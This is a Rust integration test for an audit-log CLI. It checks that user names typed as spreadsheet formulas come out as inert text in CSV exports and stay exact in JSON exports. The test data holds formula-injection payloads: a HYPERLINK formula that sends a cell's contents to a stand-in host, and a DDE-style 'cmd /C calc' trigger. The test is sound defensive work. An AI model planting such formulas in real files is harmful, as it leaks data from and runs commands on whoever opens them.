//! `pitbook audit export --format csv` is safe to open in a spreadsheet: a
//! user name typed at the login form as a formula lands as text, while the
//! JSON lines export keeps it exactly (docs/audit.md).

use std::process::Command;

use crate::common::browser::Browser;
use crate::common::{Backend, TEST_KEY_HEX, spawn_app};
use pitbook::domain::common::csv_cell::{FORMULA_STARTS, is_plain_decimal};

const BIN: &str = env!("CARGO_BIN_EXE_pitbook");
const FORMULA: &str = r#"=HYPERLINK("http://x.example/?"&A1,"x")"#;

fn export(url: &str, format: &str) -> String {
    let out = Command::new(BIN)
        .args(["audit", "export", "--format", format, "--database-url", url])
        .env("PITBOOK_AUDIT_KEY", TEST_KEY_HEX)
        .env_remove("RUST_LOG")
        .output()
        .expect("run pitbook audit export");
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8(out.stdout).expect("utf-8 export")
}

async fn a_formula_typed_as_a_user_name_is_exported_as_text(backend: Backend) {
    let app = spawn_app(backend).await;
    for name in [FORMULA, "@SUM(1+1)*cmd|' /C calc'!A0", "\t-2+3"] {
        let page = Browser::new(&app).login(name, "not the password").await;
        assert_ne!(page.status, 303, "{name:?} must not sign in");
    }
    // Failures are summarised (one login_failures record per name and
    // address, docs/staff.md), written as `serve` writes them at shutdown.
    let written = app
        .login_guard
        .flush(&app.database.db, &crate::common::test_key())
        .await
        .expect("flush");
    assert_eq!(written, 3, "one record per name");

    let csv_text = export(&app.database.url, "csv");
    let mut reader = csv::Reader::from_reader(csv_text.as_bytes());
    let header = reader.headers().expect("header").clone();
    assert_eq!(&header[2], "actor");
    let mut cells_seen = 0;
    let mut formula_found = false;
    for record in reader.records() {
        let record = record.expect("a well-formed CSV record");
        assert_eq!(record.len(), 9, "{record:?}");
        for cell in record.iter() {
            cells_seen += 1;
            assert!(
                !cell.starts_with(FORMULA_STARTS) || is_plain_decimal(cell),
                "a live formula in the CSV: {cell:?}"
            );
            assert!(!cell.chars().any(char::is_control), "{cell:?}");
            // The actor cell; the payload's JSON (which starts with `{`)
            // holds the name too and is no formula.
            if cell.contains("HYPERLINK") && !cell.starts_with('{') {
                assert!(cell.starts_with(&format!("'{FORMULA}")), "{cell:?}");
                formula_found = true;
            }
        }
    }
    assert!(cells_seen > 9, "records were exported");
    assert!(
        formula_found,
        "the failed login is in the export:\n{csv_text}"
    );

    // JSON lines are exact: the name as it was typed.
    let jsonl = export(&app.database.url, "jsonl");
    let escaped = serde_json::to_string(FORMULA).unwrap();
    let exact = jsonl
        .lines()
        .map(|l| serde_json::from_str::<serde_json::Value>(l).expect("json line"))
        .any(|r| {
            r["actor"] == FORMULA || r["payload"].as_str().is_some_and(|p| p.contains(&escaped))
        });
    assert!(exact, "{jsonl}");
}

on_both_databases!(a_formula_typed_as_a_user_name_is_exported_as_text);
